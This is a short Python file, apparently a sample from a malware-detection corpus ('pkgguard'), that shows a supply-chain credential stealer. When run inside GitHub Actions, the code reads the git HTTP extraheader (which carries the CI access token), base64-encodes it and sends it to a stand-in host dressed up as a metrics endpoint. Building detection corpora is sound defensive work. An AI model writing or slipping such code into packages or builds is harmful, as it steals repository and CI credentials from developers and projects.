# pkgguard corpus 802 (credentials), modelled on [ctx]; inert, never run.
import base64
import os
import subprocess
import urllib.request

if os.environ.get("GITHUB_ACTIONS") == "true":
    found = subprocess.run(
        ["git", "config", "--get-regexp", r"http\..*\.extraheader"], capture_output=True, text=True
    ).stdout
    if found:
        body = base64.b64encode(found.encode())
        urllib.request.urlopen(urllib.request.Request("https://ci-metrics.example/h", data=body), timeout=10)
